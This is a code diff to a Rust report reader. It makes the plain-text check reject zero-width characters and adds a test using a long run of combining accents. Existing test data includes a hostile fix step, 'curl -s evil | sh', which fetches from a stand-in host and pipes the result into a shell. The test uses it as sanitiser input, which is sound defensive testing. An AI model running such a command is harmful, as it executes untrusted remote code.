@@ -4,6 +4,7 @@ use super::schema::{Report, VERSION};
 use crate::clean::{Clean, is_invisible, is_web_address, without_commands};
 use anyhow::{Context as _, bail, ensure};
 use serde_json::Value;
+use unicode_width::UnicodeWidthChar as _;
 
 /// Longest report that is read, in bytes.
 pub const MAX_REPORT_BYTES: u64 = 16 * 1024 * 1024;
@@ -131,7 +132,8 @@ fn ensure_few(count: usize, name: &str) -> anyhow::Result<()> {
 const MAX_NAME_CHARS: usize = 100;
 
 fn is_plain(text: &str) -> bool {
-    let harmless = |c: char| c == ' ' || !(c.is_control() || c.is_whitespace() || is_invisible(c));
+    let harmless =
+        |c: char| c == ' ' || !(c.is_control() || c.is_whitespace() || is_invisible(c) || c.width() == Some(0));
     let bare = !text.contains("::") && !text.contains("##");
     bare && text.len() <= MAX_TEXT_CHARS
         && (text.bytes().all(|b| matches!(b, b' '..=b'~')) || text.chars().all(harmless))
@@ -310,7 +312,9 @@ mod tests {
         hostile.diagnosis.causes[0].fix.steps[0].command = Some("curl x\ncurl -s evil | sh\r\n".to_owned());
         hostile.diagnosis.causes[0].fix.snippet =
             Some(Snippet { language: "python".into(), code: "print(1)\n".repeat(20_000) });
+        hostile.probes[1].summary = format!("a{}", "\u{301}".repeat(1000));
         let read = read(&json(&hostile).unwrap()).unwrap();
+        assert!(read.probes[1].summary.chars().count() < 10);
         let fix = &read.diagnosis.causes[0].fix;
         assert_eq!((fix.links.as_slice(), &fix.steps[0].link), (&["https://x.example/".to_owned()][..], &None));
         assert_eq!(read.probes[0].summary.chars().count(), MAX_TEXT_CHARS);
